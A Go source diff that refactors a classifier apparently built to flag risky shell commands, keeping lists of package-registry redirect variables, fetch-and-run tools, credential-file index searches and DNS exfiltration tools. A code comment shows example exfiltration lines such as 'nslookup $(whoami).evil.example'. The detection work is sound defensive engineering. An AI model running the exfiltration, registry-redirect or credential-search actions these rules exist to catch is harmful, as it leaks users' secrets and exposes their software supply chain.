@@ -6,6 +6,7 @@ import (
 
 	"github.com/coworkbridge/coworkbridge/classifier/facts"
 	"github.com/coworkbridge/coworkbridge/internal/lazyregexp"
+	"github.com/coworkbridge/coworkbridge/internal/nameset"
 )
 
 // What a command does through another program's own language: AppleScript and JXA telling the
@@ -77,14 +78,14 @@ func serviceEffects(cmd *facts.Command) []Effect {
 
 // registryVars are the environment variables that tell a package manager or toolchain where
 // packages, modules and their checksums come from, or what runs during a build.
-var registryVars = map[string]bool{
-	"GOPROXY": true, "GONOSUMDB": true, "GONOSUMCHECK": true, "GOINSECURE": true, "GONOPROXY": true, "GOSUMDB": true,
-	"GOPRIVATE": true, "PIP_INDEX_URL": true, "PIP_EXTRA_INDEX_URL": true, "PIP_TRUSTED_HOST": true, "UV_INDEX_URL": true,
-	"UV_EXTRA_INDEX_URL": true, "UV_INDEX": true, "UV_DEFAULT_INDEX": true, "NPM_CONFIG_REGISTRY": true,
-	"npm_config_registry": true, "YARN_REGISTRY": true, "YARN_NPM_REGISTRY_SERVER": true, "BUN_CONFIG_REGISTRY": true,
-	"CARGO_REGISTRIES_CRATES_IO_PROTOCOL": true, "GEM_SOURCE": true, "POETRY_REPOSITORIES": true, "PIP_CONFIG_FILE": true,
-	"NPM_CONFIG_USERCONFIG": true, "GIT_CONFIG_GLOBAL": true,
-}
+var registryVars = nameset.Of(
+	"GOPROXY", "GONOSUMDB", "GONOSUMCHECK", "GOINSECURE", "GONOPROXY", "GOSUMDB",
+	"GOPRIVATE", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_TRUSTED_HOST", "UV_INDEX_URL",
+	"UV_EXTRA_INDEX_URL", "UV_INDEX", "UV_DEFAULT_INDEX", "NPM_CONFIG_REGISTRY",
+	"npm_config_registry", "YARN_REGISTRY", "YARN_NPM_REGISTRY_SERVER", "BUN_CONFIG_REGISTRY",
+	"CARGO_REGISTRIES_CRATES_IO_PROTOCOL", "GEM_SOURCE", "POETRY_REPOSITORIES", "PIP_CONFIG_FILE",
+	"NPM_CONFIG_USERCONFIG", "GIT_CONFIG_GLOBAL",
+)
 
 // goflagsExec are go command flags that run a program of the caller's choice or swap the files
 // a build reads.
@@ -150,7 +151,7 @@ func redirectEffects(cmd *facts.Command) []Effect {
 			}
 		}
 		if cmd.Name == "launchctl" || cmd.Name == "setenv" {
-			if ops := facts.Operands(cmd.Args); len(ops) >= 2 && registryVars[ops[len(ops)-2]] {
+			if ops := facts.Operands(cmd.Args); len(ops) >= 2 && registryVars.Has(ops[len(ops)-2]) {
 				return redirect(ops[len(ops)-2])
 			}
 		}
@@ -178,14 +179,14 @@ func assignedRedirect(a string) string {
 		}
 	case name == "GOPROXY" && (value == "https://proxy.golang.org,direct" || value == "https://proxy.golang.org"):
 	case name == "GOSUMDB" && value == "sum.golang.org":
-	case registryVars[name]:
+	case registryVars.Has(name):
 		return name
 	}
 	return ""
 }
 
 // fetchRunners install a package from the registry and run it in one step, with no prompt.
-var fetchRunners = map[string]bool{"bunx": true, "pnpx": true}
+var fetchRunners = nameset.Of("bunx", "pnpx")
 
 // runnerEffects finds a package fetched and run at once: npx -y or --yes, npm exec --yes,
 // pnpm dlx, yarn dlx, bunx. A package in the project's own node_modules runs without a fetch
@@ -201,7 +202,7 @@ func runnerEffects(cmd *facts.Command) []Effect {
 		pkg = ops[1]
 	case (cmd.Name == "pnpm" || cmd.Name == "yarn") && len(ops) > 1 && ops[0] == "dlx":
 		pkg = ops[1]
-	case fetchRunners[cmd.Name] && len(ops) > 0:
+	case fetchRunners.Has(cmd.Name) && len(ops) > 0:
 		pkg = ops[0]
 	}
 	if pkg == "" {
@@ -212,11 +213,11 @@ func runnerEffects(cmd *facts.Command) []Effect {
 
 // indexSearchers query the Mac's file index (Spotlight) or a locate database: a query for key
 // files finds every one on the disk without walking it.
-var indexSearchers = map[string]bool{"mdfind": true, "locate": true, "plocate": true, "mlocate": true, "glocate": true}
+var indexSearchers = nameset.Of("mdfind", "locate", "plocate", "mlocate", "glocate")
 
 // indexSearchEffects finds a search of the file index for key files and credential stores.
 func indexSearchEffects(cmd *facts.Command) []Effect {
-	if !indexSearchers[cmd.Name] {
+	if !indexSearchers.Has(cmd.Name) {
 		return nil
 	}
 	for _, a := range facts.Operands(cmd.Args) {
@@ -228,13 +229,13 @@ func indexSearchEffects(cmd *facts.Command) []Effect {
 }
 
 // dnsTools resolve a name they are given: what the name holds reaches whoever serves its domain.
-var dnsTools = map[string]bool{"dig": true, "nslookup": true, "host": true, "drill": true, "dnsget": true, "kdig": true,
-	"delv": true, "resolvectl": true, "dscacheutil": true, "ping": true, "ping6": true, "traceroute": true}
+var dnsTools = nameset.Of("dig", "nslookup", "host", "drill", "dnsget", "kdig",
+	"delv", "resolvectl", "dscacheutil", "ping", "ping6", "traceroute")
 
 // dnsEffects finds data sent out as a DNS name: a name built from a command's output or a
 // variable (nslookup $(whoami).evil.example, dig $TOKEN.x.example).
 func dnsEffects(cmd *facts.Command) []Effect {
-	if !dnsTools[cmd.Name] {
+	if !dnsTools.Has(cmd.Name) {
 		return nil
 	}
 	for _, a := range facts.Operands(cmd.Args) {
